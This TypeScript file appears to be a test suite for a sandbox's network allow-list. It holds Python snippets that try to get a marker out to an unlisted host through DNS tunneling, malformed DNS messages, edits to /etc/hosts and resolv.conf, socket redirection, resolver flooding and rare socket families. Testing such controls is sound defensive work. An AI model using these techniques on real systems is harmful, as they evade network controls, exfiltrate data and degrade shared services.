/** Y: resolvers of a command's own, sockets turned elsewhere, and what a list must hold under load (S30, S31). */
import { BOTH, python, type Row, SYSTEM_CALL } from "../frame/attack.ts";
import { type Attempt, LISTED, onShared, OTHER, PORT, UNLISTED_PORT, volley } from "../means/own_machine.ts";
import { asks, HELLO, sends, THEIRS } from "./protocols.ts";

/** An address that no list has. */
const ELSEWHERE = "8.8.2.2";
const REACHES = `talk("${ELSEWHERE}", ${PORT}, tag)`;
const DATAGRAM = `socket.socket(2, 2).sendto(tag, ("${ELSEWHERE}", ${PORT}))`;

/** What needs rights, a kernel or a neighbour that the control may lack: there it reaches the same place plainly. */
function reaching(program: string, control = REACHES): Attempt {
  return { program, control };
}

/** Python: a question for a name that holds `tag`. */
const QUESTION = `
def labels(*each): return b"".join(bytes([len(one)]) + one for one in each) + b"\\0"
def question(*each, flags=b"\\1\\0", counts=(1, 0, 0, 0), more=b"", kind=1):
  return b"ZZ" + flags + struct.pack(">4H", *counts) + labels(*each) + struct.pack(">HH", kind, 1) + more
def ask(query, host="127.0.0.1", port=53):
  peer = socket.socket(2, 2)
  peer.settimeout(1)
  peer.sendto(query, (host, port))
  print(peer.recv(512))
def framed(query): return struct.pack(">H", len(query)) + query
`;

const OPTION = `b"\\0\\0\\x29\\2\\0\\0\\0\\0\\0" + struct.pack(">HHH", 4 + len(tag), 65001, len(tag)) + tag`;
const MINE = 'b"named", b"example", b"test"';

/** Python: turns a socket that is connected to a listed name. */
const TURNED = `
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def connected():
  peer = socket.create_connection(("${LISTED}", ${PORT}))
  return peer
def elsewhere(peer):
  peer.connect(("${ELSEWHERE}", ${PORT}))
  peer.sendall(tag)
def with_option(level, option, value):
  peer = socket.socket()
  try: peer.setsockopt(level, option, value)
  except OSError as error: print(error)
  elsewhere(peer)
`;

export const NETWORK_WAYS_OUT: readonly Row[] = [
  {
    id: "Y19",
    title: "ask a resolver of one's own, over each transport",
    users: BOTH,
    aim: "evidence",
    ways: {
      "DNS over TCP, TLS, HTTPS and QUIC": volley({
        "over TCP, to an address": `talk("${ELSEWHERE}", 53, framed(question(tag, b"test")))`,
        "over TCP, to a listed address": `talk("8.8.4.4", 53, framed(question(tag, b"test")))`,
        "over TCP, to a listed name": `talk("${LISTED}", 53, framed(question(tag, b"test")))`,
        "over UDP, to a listed address": `ask(question(tag, b"test"), "8.8.4.4")`,
        "over TLS, to an address": `talk("${ELSEWHERE}", 853, records(hello(tag, sni(${THEIRS}))))`,
        "over TLS, to a listed address": `talk("8.8.4.4", 853, records(hello(tag, sni(${THEIRS}))))`,
        "over TLS, to a listed name": sends(`records(hello(tag, sni(b"${LISTED}")))`, 853),
        "over HTTPS, to an address with a listed name": `
talk("${ELSEWHERE}", 443, records(hello(tag, sni(b"${LISTED}"))))`,
        "over HTTPS, to a listed address's other port": `
talk("8.8.4.4", 443, records(hello(tag, sni(b"${LISTED}"))))`,
        "over HTTPS, to a host that is not listed": `talk("${OTHER}", 443, records(hello(tag, sni(${THEIRS}))))`,
        "over HTTPS, by a listed name": sends(`records(hello(tag, sni(${THEIRS})))`),
        "over plain HTTP, by a listed name": asks(
          `GET /dns-query?dns=~ HTTP/1.1\r\nHost: ${OTHER}\r\nAccept: application/dns-message\r\n\r\n`,
        ),
        "over QUIC": `ask(tag, "${ELSEWHERE}", 853)`,
        "over QUIC, to a listed name": `ask(tag, "${LISTED}", 853)`,
      }, HELLO + QUESTION),
    },
  },
  {
    id: "Y20",
    title: "carry something out in a question that resolvers read differently",
    users: BOTH,
    aim: "evidence",
    ways: {
      "messages": volley({
        "a name below a listed one": `ask(question(tag, ${MINE}))`,
        "an option": `ask(question(${MINE}, counts=(1, 0, 0, 1), more=${OPTION}))`,
        "two questions": `ask(question(${MINE}, counts=(2, 0, 0, 0), more=labels(tag, b"test") + b"\\0\\1\\0\\1"))`,
        "a pointer":
          `ask(question(${MINE}, counts=(2, 0, 0, 0), more=bytes([len(tag)]) + tag + b"\\xc0\\x0c\\0\\1\\0\\1"))`,
        "an answer":
          `ask(question(${MINE}, counts=(1, 1, 0, 0), more=labels(tag) + b"\\0\\1\\0\\1\\0\\0\\0\\0\\0\\0"))`,
        "a change of a zone": `ask(question(tag, b"test", flags=b"\\x28\\0"))`,
        "a notice": `ask(question(tag, b"test", flags=b"\\x20\\0"))`,
        "the name of an address": `ask(question(tag, b"in-addr", b"arpa", kind=12))`,
        "a service": `ask(question(b"_http", tag, ${MINE}, kind=33))`,
        "a label that is too long": `ask(question(tag.ljust(64, b"x"), b"test"))`,
        "a name that is too long": `ask(question(tag, *[b"x" * 60] * 5))`,
        "bytes behind": `ask(question(${MINE}) + tag)`,
        "in the wish not to recurse": `ask(question(tag, b"test", flags=b"\\0\\0"))`,
        "over TCP in pieces": {
          program: `
query = framed(question(tag, ${MINE}))
talk("127.0.0.1", 53, query[:1], query[1:9], query[9:])`,
          control: `ask(question(tag, ${MINE}))`,
        },
      }, QUESTION),
    },
  },
  {
    id: "Y21",
    title: "ask the neighbourhood or services of the machine for a name",
    users: BOTH,
    aim: "evidence",
    ways: {
      "multicast, broadcast, services": volley(
        {
          ...Object.fromEntries(
            ([["224.0.0.251", 5353], ["224.0.0.252", 5355], ["255.255.255.255", 137], [
              "239.255.255.250",
              1900,
            ]] as const)
              .map(([group, port]) => [
                `${group}:${port}`,
                reaching(
                  `
peer = socket.socket(2, 2)
peer.setsockopt(1, 6, 1)
peer.sendto(tag, ("${group}", ${port}))
peer.sendto(tag, ("${ELSEWHERE}", ${PORT}))`,
                  DATAGRAM,
                ),
              ]),
          ),
          "of IPv6": reaching(`socket.socket(10, 2).sendto(tag, ("ff02::fb", 5353))`, DATAGRAM),
          "services at paths": reaching(
            `
for path in "/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve", "/run/avahi-daemon/socket", "/run/dbus/system_bus_socket":
  try:
    peer = socket.socket(1)
    peer.connect(path)
    ${REACHES}
  except OSError as error: print(error)`,
          ),
          "a file of hosts of its own": reaching(
            `
for path in "/etc/hosts", "/etc/resolv.conf":
  try: open(path, "a").write("${ELSEWHERE} ${OTHER}\\nnameserver 8.8.8.8\\n")
  except OSError as error: print(error)
talk("${OTHER}", ${PORT}, tag)`,
          ),
          "an alias of its own": reaching(
            `
open("aliases", "w").write("mine ${OTHER}\\n")
os.environ["HOSTALIASES"] = "aliases"
os.environ["LOCALDOMAIN"] = "example.test"
talk("mine", ${PORT}, tag)`,
          ),
        },
        "",
        "processes",
      ),
    },
  },
  {
    id: "Y22",
    title: "turn a socket that reaches a listed name to another place",
    users: BOTH,
    aim: "evidence",
    ways: {
      "connect again, options": volley(
        {
          "disconnect and connect": `
peer = connected()
libc.connect(peer.fileno(), bytes(16), 16)
elsewhere(peer)`,
          "a copy of it": `
peer = connected()
other = peer.dup()
libc.connect(other.fileno(), bytes(16), 16)
elsewhere(other)`,
          "after a half close": `
peer = connected()
peer.shutdown(2)
libc.connect(peer.fileno(), bytes(16), 16)
elsewhere(peer)`,
          "bound to its address": reaching(`
peer = connected()
other = socket.socket()
other.setsockopt(1, 2, 1)
other.bind((peer.getsockname()[0], 0))
elsewhere(other)`),
          "from an address of its own": reaching(`
other = socket.socket()
other.setsockopt(0, 15, 1)
other.bind(("8.8.7.7", 0))
elsewhere(other)`),
          "a route in its packets": reaching(
            `with_option(0, 4, b"\\x83\\x07\\x04" + socket.inet_aton("${ELSEWHERE}") + b"\\0")`,
          ),
          "a mark": `with_option(1, 36, struct.pack("i", 1))`,
          "a proxy for all addresses": `with_option(0, 19, struct.pack("i", 1))`,
          "without routes": reaching(`with_option(1, 5, struct.pack("i", 1))`),
          "through a device": reaching(`with_option(1, 25, b"eth0\\0")`),
          "an address behind a message": `
peer = connected()
try: peer.sendmsg([b"x"], [], 0, ("${ELSEWHERE}", ${PORT}))
except OSError: pass
libc.connect(peer.fileno(), bytes(16), 16)
elsewhere(peer)`,
        },
        TURNED,
        "processes",
      ),
    },
  },
  {
    id: "Y23",
    title: "use an address that stands for a name for something else",
    users: BOTH,
    aim: "evidence",
    ways: {
      "addresses and ports": volley(
        Object.fromEntries([
          ...["198.18.0.1", "198.18.0.9", "198.18.255.255", "198.19.0.10", "::ffff:198.18.0.1", "64:ff9b::c612:1"].map(
            (host) => [`${host}`, `talk("${host}", ${PORT}, tag)`],
          ),
          ...[UNLISTED_PORT, 853].flatMap((port) =>
            ["198.18.0.10", "198.18.0.11", "::ffff:198.18.0.10", "64:ff9b::c612:a"].map((host) => [
              `${host} ${port}`,
              `talk("${host}", ${port}, tag)`,
            ])
          ),
          ["in a datagram", `socket.socket(2, 2).sendto(tag, ("198.18.0.10", ${PORT}))`],
        ]),
      ),
    },
  },
  {
    id: "Y24",
    title: "reach another host while the relay and its resolver are busy",
    users: BOTH,
    aim: "evidence",
    ways: {
      "questions and connections that are never finished": volley({
        "questions over TCP": reaching(`
held = [socket.create_connection(("127.0.0.1", 53)) for _ in range(400 // SHARE)]
for one in held: one.send(b"\\1")
talk("${OTHER}", ${PORT}, tag)`),
        "first messages": reaching(`
held = [socket.create_connection(("${LISTED}", 443)) for _ in range(200 // SHARE)]
for one in held: one.send(b"\\x16\\3\\1")
${REACHES}`),
        "connections that are cut off": reaching(`
for _ in range(300 // SHARE):
  with socket.create_connection(("${LISTED}", 80)) as one: one.setsockopt(1, 13, struct.pack("ii", 1, 0))
talk("${LISTED}", ${UNLISTED_PORT}, tag)`),
        "many questions": reaching(`
peer = socket.socket(2, 2)
peer.connect(("127.0.0.1", 53))
for at in range(2000 // SHARE): peer.send(b"ZZ\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3%03d\\0\\0\\1\\0\\1" % (at % 1000))
talk("${OTHER}", ${PORT}, tag)`),
        "noise": reaching(`
peer = socket.socket(2, 2)
for at in range(0, 500, SHARE): peer.sendto(os.urandom(at), ("127.0.0.1", 53))
talk("${OTHER}", ${PORT}, tag)`),
      }),
    },
  },
  {
    id: "Y25",
    title: "speak first, last or late to a listed name, so that another is not seen",
    users: BOTH,
    aim: "evidence",
    ways: {
      "order and time": volley({
        "a request in 70 segments": `
with socket.create_connection(("${LISTED}", 80)) as peer:
  peer.setsockopt(6, 1, 1)
  import time
  for at in range(70):
    peer.sendall(b"GET /" + tag + b" HTTP/1.1\\r\\n" if at == 0 else b"X: %d\\r\\n" % at)
    time.sleep(0.001)
  peer.sendall(b"Host: ${OTHER}\\r\\n\\r\\n")
  print(peer.recv(100))`,
        "after a pause": `
with socket.create_connection(("${LISTED}", 80)) as peer:
  import time
  time.sleep(0.3)
  peer.sendall(b"GET /" + tag + b" HTTP/1.1\\r\\nHost: ${OTHER}\\r\\n\\r\\n")
  print(peer.recv(100))`,
        "an urgent byte before": `
with socket.create_connection(("${LISTED}", 80)) as peer:
  peer.send(b"!", 1)
  peer.sendall(b"GET /" + tag + b" HTTP/1.1\\r\\nHost: ${OTHER}\\r\\n\\r\\n")
  print(peer.recv(100))`,
        "with the end": `
with socket.create_connection(("${LISTED}", 80)) as peer:
  peer.sendall(b"GET /" + tag + b" HTTP/1.1\\r\\nHost: ${OTHER}\\r\\n\\r\\n")
  peer.shutdown(1)
  print(peer.recv(100))`,
        "with a reset": `
with socket.create_connection(("${LISTED}", 80)) as peer:
  peer.sendall(b"GET /" + tag + b" HTTP/1.1\\r\\nHost: ${OTHER}\\r\\n\\r\\n")
  import time
  time.sleep(0.2)
  peer.setsockopt(1, 13, struct.pack("ii", 1, 0))`,
        "in one datagram of the first words": `
peer = socket.socket()
peer.setsockopt(6, 30, 1)
peer.connect(("${LISTED}", 80))
peer.sendall(b"GET /" + tag + b" HTTP/1.1\\r\\nHost: ${OTHER}\\r\\n\\r\\n")
print(peer.recv(100))`,
        "a host in 16,000 bytes": asks(`GET /~ HTTP/1.1\r\nX: ${"x".repeat(16_000)}\r\n`, `Host: ${OTHER}\r\n\r\n`),
      }),
    },
  },
  {
    id: "Y26",
    title: "make a socket that no list judges",
    users: BOTH,
    aim: "evidence",
    ways: {
      "rare families, and a ring": onShared({
        does: () => python(rare(RARE)),
        control: () => python(rare([[2, 1, 0], ...RARE])),
        evidence: /made .*/,
      }),
    },
  },
];

/** Of a virtual machine, ciphers, clusters, reliable datagrams, and so on: family, type, protocol. */
const RARE: readonly (readonly number[])[] = [
  ...[[40, 1, 0], [38, 5, 0], [30, 1, 0], [21, 5, 0], [43, 1, 0], [29, 3, 1], [41, 5, 0], [44, 3, 0], [35, 5, 0]],
  ...[[42, 2, 0], [2, 6, 33], [15, 3, 2], [9, 5, 0], [3, 5, 0], [17, 3, 768], [2, 3, 255], [10, 3, 58], [31, 3, 1]],
];

/** Python that tells what it could make of these, or a ring. */
function rare(kinds: readonly (readonly number[])[]): string {
  return `${SYSTEM_CALL}
import socket
for kind in ${JSON.stringify(kinds)}:
  try: print("made", socket.socket(*kind))
  except OSError as error: print(error)
ring, _ = call("io_uring_setup", 4, ctypes.create_string_buffer(120))
if ring > 0: print("made a ring")`;
}
